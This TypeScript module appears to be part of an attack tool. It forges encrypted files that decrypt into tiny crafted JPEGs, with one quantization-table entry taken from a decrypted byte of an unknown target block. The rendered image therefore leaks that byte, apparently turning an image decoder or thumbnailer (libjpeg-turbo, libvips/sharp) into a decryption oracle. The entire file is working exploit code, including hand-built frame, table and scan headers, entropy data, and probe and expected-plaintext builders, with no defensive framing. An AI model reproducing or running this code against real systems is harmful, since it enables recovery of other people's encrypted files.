import { blockBytes, forge, type KnownBlock } from "./known-block.js";

/**
 * A greyscale JPEG of 8 × 8 pixels whose quantization table contains a block of unknown plaintext. One of its AC
 * coefficients is not zero, so the decoded picture depends on one entry of that table.
 *
 * The file has no Huffman table: libjpeg-turbo installs the standard ones (ITU-T T.81, annex K.3) if a file has
 * none, as in Motion JPEG. A forged block has a block of garbage in front of it. The garbage lies in the opening's first
 * segment, in the rest of the table or between segments, where libjpeg skips bytes up to the next marker with a warning.
 */

/** Entries, in zigzag order, each of whose values from 0 to 255 yields a different picture. Most entries do not qualify. */
export const shownEntries = [11, 16] as const;
export type ShownEntry = (typeof shownEntries)[number];

/** Blocks that end the opening's first segment: APP0 as JFIF has it, or a quantization table as sharp has it. */
const skippedBlocks = 3;
/** SOF0 (T.81, B.2.2): 8 bits, 8 × 8, one component, which uses table 0. */
const frameHeader = Buffer.from("ffc0000b080008000801011100", "hex");
/** DQT (T.81, B.2.4.1): 64 entries of 8 bits for table 0. */
const tableHeader = Buffer.from("ffdb004300", "hex");
const tableEntries = 64;
/**
 * Entry 0. The DC coefficient is 4, so the mean is 128 + 4 × 254 / 8 = 255: the wave's upper half is cut off, and its
 * lower half has room for an AC coefficient of 5 times 255.
 */
const meanEntry = 254;
/** SOS (T.81, B.2.3). */
const scanHeader = Buffer.from("ffda0008010100003f00", "hex");
/**
 * The entropy data of one block (T.81, F.1.2, tables K.3 and K.5): `100 100` for DC 4; the zeros in front of the entry and
 * a size of 3 bits, 16 bits; `101` for AC 5; `1010`, end of block. A zero byte follows FF. libvips wants no EOI behind
 * it, only bytes.
 */
const entropyData: Readonly<Record<ShownEntry, Buffer>> = {
  11: Buffer.from("93ff0022d0", "hex"),
  16: Buffer.from("93ff00ded0", "hex"),
};

/** How one byte of a target block is made visible. */
interface View {
  entry: ShownEntry;
  /** Entries in front of the target: it begins in the table where it must for the byte to be that entry. */
  before: number;
}

/** The header and the entries before the target share a block, so an entry can show 11 of the target's bytes. */
export function viewOf(index: number): View {
  const entry = index < 11 ? 11 : 16;
  return { entry, before: entry - index };
}

/**
 * A `.encrypted` file of 240 bytes that decrypts to the picture. Entry by entry, the target fills the table with its
 * decryption XOR the known ciphertext.
 *
 * @param filler changes what the blocks of garbage hold
 */
export function probe(known: KnownBlock, target: Buffer, view: View, filler: number): Buffer {
  return Buffer.concat([opening(known), picture(known, target, view, filler)]);
}

/** The captured picture's first bytes, and blocks behind them that end their segment. */
export function opening({ ciphertext }: KnownBlock): Buffer {
  return Buffer.concat(Array.from({ length: 1 + skippedBlocks }, () => ciphertext));
}

/** Everything after the opening. */
export function picture(
  known: KnownBlock,
  target: Buffer,
  { entry, before }: View,
  filler: number,
): Buffer {
  const { ciphertext } = known;
  const tableStart = Buffer.concat([tableHeader, entriesBefore(before)]);
  return Buffer.concat([
    forge(known, Buffer.concat([frameHeader, fill(frameHeader, filler)])),
    forge(known, Buffer.concat([fill(tableStart, filler), tableStart])),
    target,
    ciphertext,
    ciphertext,
    forge(known, scan(entry, filler)),
    ciphertext,
    ciphertext,
  ]);
}

/**
 * What that file decrypts to where the entry is `value`, except for bytes that do not affect the picture.
 *
 * @param start the first 16 bytes of any picture by the captured one's encoder
 */
export function plainProbe(start: Buffer, entry: ShownEntry, value: number): Buffer {
  const table = Buffer.concat([entriesBefore(1), Buffer.alloc(tableEntries - 1)]);
  table.writeUInt8(value, entry);
  const skipped = Buffer.alloc(skippedBlocks * blockBytes + blockBytes);
  const rest = Buffer.alloc(2 * blockBytes);
  return Buffer.concat([start, skipped, frameHeader, tableHeader, table, scan(entry, 0), rest]);
}

function entriesBefore(count: number): Buffer {
  const entries = Buffer.alloc(count);
  entries.writeUInt8(meanEntry);
  return entries;
}

function scan(entry: ShownEntry, filler: number): Buffer {
  const bytes = Buffer.concat([scanHeader, entropyData[entry]]);
  return Buffer.concat([bytes, fill(bytes, filler)]);
}

/** Pads bytes to a whole block. */
function fill(bytes: Buffer, filler: number): Buffer {
  return Buffer.alloc(blockBytes - bytes.length, filler);
}
